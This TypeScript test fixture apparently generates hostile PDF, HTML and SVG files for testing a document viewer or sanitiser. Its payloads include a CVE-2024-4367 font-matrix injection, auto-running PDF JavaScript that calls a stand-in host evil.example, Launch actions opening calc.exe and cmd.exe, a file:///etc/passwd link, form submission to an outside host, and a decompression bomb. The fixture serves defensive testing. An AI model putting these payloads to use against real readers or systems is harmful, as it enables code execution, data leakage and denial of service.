// Files that want more than to be read: each of them tries to run something, to ask another origin, or to keep the page
// busy for ever. Written by hand, so that nothing tidies them up.
import { deflateSync } from 'node:zlib';

const evil = 'https://evil.example';
/** Whatever runs it: it leaves a mark, opens a dialog and asks another origin. */
const script = `window.hostileRan=1;alert(1);fetch('${evil}/ran');app.alert(1);app.launchURL('${evil}/launched');`;

type Parts = {
  /** Further objects, from 6 on. */
  objects?: Readonly<Record<number, string>>;
  catalog?: string;
  page?: string;
  /** Entries of the resources of the page. */
  resources?: string;
  content?: string;
  pages?: string;
  trailer?: string;
  /** What the table of objects says of where they are. */
  bend?: (offset: number) => number;
};

const stream = (content: string, entries = ''): string =>
  `<< ${entries} /Length ${Buffer.byteLength(content, 'latin1')} >>\nstream\n${content}\nendstream`;

const textContent = 'BT /F1 24 Tf 72 700 Td (Hostile) Tj ET';

function pdf(parts: Parts = {}): Buffer {
  const { catalog = '', page = '', resources = '/Font << /F1 5 0 R >>', content = textContent } = parts;
  const objects: Record<number, string> = {
    1: `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    2: parts.pages ?? '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << ${resources} >> /Contents 4 0 R ${page} >>`,
    4: stream(content),
    5: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...parts.objects,
  };
  let text = '%PDF-1.7\n';
  const offsets = new Map<number, number>();
  for (const [number, body] of Object.entries(objects)) {
    offsets.set(Number(number), text.length);
    text += `${number} 0 obj\n${body}\nendobj\n`;
  }
  const start = text.length;
  const size = Math.max(...offsets.keys()) + 1;
  text += `xref\n0 ${size}\n0000000000 65535 f \n`;
  for (let number = 1; number < size; number += 1) {
    const offset = offsets.get(number);
    text +=
      offset === undefined
        ? '0000000000 00000 f \n'
        : `${String((parts.bend ?? ((at: number) => at))(offset)).padStart(10, '0')} 00000 n \n`;
  }
  text += `trailer\n<< /Size ${size} /Root 1 0 R ${parts.trailer ?? ''} >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

const action = (type: string, more: string): string => `<< /Type /Action /S /${type} ${more} >>`;
const javaScript = action('JavaScript', `/JS (${script.replace(/[()\\]/g, String.raw`\$&`)})`);
const link = (act: string, more = ''): string =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /A ${act} ${more} >>]`;
const annotation = (body: string): string => `/Annots [<< /Type /Annot /Rect [72 600 300 700] ${body} >>]`;

/** CVE-2024-4367: what stands in the matrix of a font was written into code that was run. */
const fontMatrix = `[1 0 0 1 0 (0\\); ${script.replace(/[()\\]/g, String.raw`\$&`)}//)]`;
const typeOneProgram = [
  '%!PS-AdobeFont-1.0: Bad',
  `/FontMatrix [1 0 0 1 0 (0); ${script}//)] readonly def`,
  '/FontBBox {0 0 1000 1000} readonly def',
  '/Encoding StandardEncoding def',
  'currentfile eexec',
].join('\n');

const html = `<!doctype html><script>${script}</script><img src="${evil}/x.png" onerror="${script}">`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><script>${script}</script><image href="${evil}/x.png" width="9" height="9"/></svg>`;

const deepTree = (): Parts => {
  const objects: Record<number, string> = {};
  const depth = 3000;
  for (let at = 0; at < depth; at += 1)
    objects[6 + at] =
      `<< /Type /Pages /Parent ${5 + at} 0 R /Kids [${at === depth - 1 ? 3 : 7 + at} 0 R] /Count 1 >>`;
  return { objects, pages: '<< /Type /Pages /Kids [6 0 R] /Count 1 >>' };
};

export const hostileFiles: Readonly<Record<string, () => Buffer>> = {
  'font-matrix.pdf': () =>
    pdf({
      objects: {
        5: `<< /Type /Font /Subtype /Type1 /BaseFont /Bad /FirstChar 0 /LastChar 255 /Widths 7 0 R /FontMatrix ${fontMatrix} /FontDescriptor 6 0 R >>`,
        6: `<< /Type /FontDescriptor /FontName /Bad /Flags 4 /FontBBox [0 0 1000 1000] /FontFile 8 0 R >>`,
        7: `[${'500 '.repeat(256)}]`,
        8: stream(typeOneProgram, '/Length1 100 /Length2 0 /Length3 0'),
      },
    }),
  'font-matrix-type3.pdf': () =>
    pdf({
      objects: {
        5: `<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix ${fontMatrix} /CharProcs << /H 6 0 R >> /Encoding << /Differences [72 /H] >> /FirstChar 72 /LastChar 72 /Widths [500] >>`,
        6: stream('500 0 0 0 500 500 d1 0 0 500 500 re f'),
      },
    }),
  'font-matrix-in-descriptor.pdf': () =>
    pdf({
      objects: {
        5: `<< /Type /Font /Subtype /TrueType /BaseFont /Bad /FontDescriptor 6 0 R /FontMatrix ${fontMatrix} >>`,
        6: `<< /Type /FontDescriptor /FontName /Bad /Flags 4 /FontBBox [(${script.replace(/[()\\]/g, '')}) 0 1 1] /FontMatrix ${fontMatrix} >>`,
      },
    }),
  'open-action-script.pdf': () => pdf({ catalog: `/OpenAction ${javaScript}` }),
  'named-script.pdf': () => pdf({ catalog: `/Names << /JavaScript << /Names [(a) ${javaScript}] >> >>` }),
  'page-opens-script.pdf': () => pdf({ page: `/AA << /O ${javaScript} /C ${javaScript} >>` }),
  'document-closes-script.pdf': () => pdf({ catalog: `/AA << /WC ${javaScript} /DP ${javaScript} >>` }),
  'field-script.pdf': () =>
    pdf({
      catalog: '/AcroForm << /Fields [6 0 R] /NeedAppearances true >>',
      page: '/Annots [6 0 R]',
      objects: {
        6: `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /Rect [72 600 300 640] /AA << /K ${javaScript} /F ${javaScript} /V ${javaScript} /C ${javaScript} /Fo ${javaScript} >> >>`,
      },
    }),
  'button-sends-form.pdf': () =>
    pdf({
      catalog: `/AcroForm << /Fields [6 0 R] >> /OpenAction ${action('SubmitForm', `/F << /FS /URL /F (${evil}/form) >> /Flags 4`)}`,
      page: '/Annots [6 0 R]',
      objects: {
        6: `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (go) /Rect [72 600 300 640] /A ${action('SubmitForm', `/F (${evil}/form)`)} >>`,
      },
    }),
  'xfa-form.pdf': () =>
    pdf({
      catalog: '/AcroForm << /XFA 6 0 R /Fields [] >> /NeedsRendering true',
      objects: {
        6: stream(
          `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><event activity="initialize"><script contentType="application/x-javascript">${script}</script></event><draw><value><image href="${evil}/x.png"/></value></draw></subform></template></xdp:xdp>`,
        ),
      },
    }),
  'launch.pdf': () => pdf({ catalog: `/OpenAction ${action('Launch', '/F (calc.exe) /NewWindow true')}` }),
  'launch-link.pdf': () => pdf({ page: link(action('Launch', '/Win << /F (cmd.exe) /P (/c calc) >>')) }),
  'opens-address.pdf': () => pdf({ catalog: `/OpenAction ${action('URI', `/URI (${evil}/opened)`)}` }),
  'script-link.pdf': () =>
    pdf({ page: link(action('URI', `/URI (javascript:${script.replace(/[()\\]/g, String.raw`\$&`)})`)) }),
  'broken-script-link.pdf': () => pdf({ page: link(action('URI', '/URI (java\tscript:alert\\(1\\))')) }),
  'data-link.pdf': () =>
    pdf({ page: link(action('URI', `/URI (data:text/html,${html.replace(/[()\\]/g, String.raw`\$&`)})`)) }),
  'file-link.pdf': () => pdf({ page: link(action('URI', '/URI (file:///etc/passwd)')) }),
  'address-link.pdf': () => pdf({ page: link(action('URI', `/URI (${evil}/link)`)) }),
  'other-document.pdf': () =>
    pdf({ catalog: `/OpenAction ${action('GoToR', `/F (${evil}/other.pdf) /D [0 /Fit]`)}` }),
  'picture-elsewhere.pdf': () =>
    pdf({
      resources: '/XObject << /I 6 0 R >>',
      content: 'q 200 0 0 200 72 500 cm /I Do Q',
      objects: {
        6: `<< /Type /XObject /Subtype /Image /Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceRGB /F << /FS /URL /F (${evil}/x.png) >> /Length 0 >>\nstream\n\nendstream`,
      },
    }),
  'rendition.pdf': () =>
    pdf({
      page: annotation(
        `/Subtype /Screen /A << /S /Rendition /OP 0 /JS (${script.replace(/[()\\]/g, String.raw`\$&`)}) >>`,
      ),
    }),
  'rich-media.pdf': () =>
    pdf({
      page: annotation(
        `/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(x.swf) << /F (${evil}/x.swf) >>] >> >> /RichMediaSettings << /Activation << /Condition /PO >> >>`,
      ),
    }),
  'note-with-markup.pdf': () =>
    pdf({
      page: annotation(
        `/Subtype /Text /Open true /Contents (${html.replace(/[()\\]/g, String.raw`\$&`)}) /T (<b onclick=alert\\(1\\)>x) /RC (<body><script>alert\\(1\\)</script><p>x</p></body>)`,
      ),
    }),
  'text-with-markup.pdf': () =>
    pdf({ content: `BT /F1 9 Tf 20 700 Td (${html.replace(/[()\\]/g, String.raw`\$&`)}) Tj ET` }),
  'labels-with-markup.pdf': () =>
    pdf({
      catalog: '/PageLabels << /Nums [0 << /P (<img src=x onerror=alert\\(1\\)>) /S /D >>] >>',
      trailer: '/Info << /Title (<script>alert\\(1\\)</script>) >>',
    }),
  'attached-page.pdf': () =>
    pdf({
      page: annotation('/Subtype /FileAttachment /FS << /F (x.html) /EF << /F 6 0 R >> >>'),
      catalog: '/Names << /EmbeddedFiles << /Names [(x.html) << /F (x.html) /EF << /F 6 0 R >> >>] >> >>',
      objects: { 6: stream(html, '/Type /EmbeddedFile /Subtype /text#2Fhtml') },
    }),
  'wrong-table.pdf': () => pdf({ bend: (offset) => offset + 7 }),
  'table-of-itself.pdf': () => pdf({ trailer: '/Prev 9' }),
  'endless-table.pdf': () => {
    const text = pdf().toString('latin1');
    const at = text.lastIndexOf('xref\n0');
    return Buffer.from(text.replace('/Root 1 0 R ', `/Root 1 0 R /Prev ${at}`), 'latin1');
  },
  'endless-pages.pdf': () => pdf({ pages: '<< /Type /Pages /Kids [2 0 R 2 0 R 3 0 R] /Count 3 >>' }),
  'deep-pages.pdf': () => pdf(deepTree()),
  'countless-pages.pdf': () => pdf({ pages: '<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>' }),
  'no-pages.pdf': () => pdf({ pages: '<< /Type /Pages /Kids [] /Count 0 >>' }),
  'form-of-itself.pdf': () =>
    pdf({
      resources: '/XObject << /X 6 0 R >>',
      content: '/X Do',
      objects: {
        6: stream(
          '/X Do /X Do',
          '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>',
        ),
      },
    }),
  'unpacks-for-ever.pdf': () => {
    const packed = deflateSync(Buffer.alloc(50_000_000, 'q Q ')).toString('latin1');
    return pdf({ objects: { 4: stream(packed, '/Filter /FlateDecode') } });
  },
  'endless-page.pdf': () => pdf({ page: '/MediaBox [0 0 1e9 1e9] /UserUnit 100000' }),
  'endless-picture.pdf': () =>
    pdf({
      resources: '/XObject << /I 6 0 R >>',
      content: 'q 200 0 0 200 72 500 cm /I Do Q',
      objects: {
        6: stream(
          'x',
          '/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB',
        ),
      },
    }),
  'wrong-length.pdf': () =>
    pdf({ objects: { 4: `<< /Length 2147483647 >>\nstream\n${textContent}\nendstream` } }),
  'half.pdf': () => pdf().subarray(0, 300),
  'head.pdf': () => Buffer.from('%PDF-1.7\n'),
  'nothing.pdf': () => Buffer.alloc(0),
  'noise.pdf': () =>
    Buffer.from(Array.from({ length: 20_000 }, (_, at) => (at * 7919 + ((at * at) % 251)) % 256)),
  'page-as-pdf.pdf': () => Buffer.from(html),
  'both.pdf': () => Buffer.concat([Buffer.from(`%PDF-1.7\n${html}\n`), pdf()]),
  'page.html': () => Buffer.from(html),
  'page.xhtml': () =>
    Buffer.from(`<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${script}</script></body></html>`),
  'drawing.svg': () => Buffer.from(svg),
  'drawing-as-picture.png': () => Buffer.from(svg),
  'page-as-picture.jpg': () => Buffer.from(html),
  'page-as-text.txt': () => Buffer.from(html),
  'no-extension': () => Buffer.from(html),
};
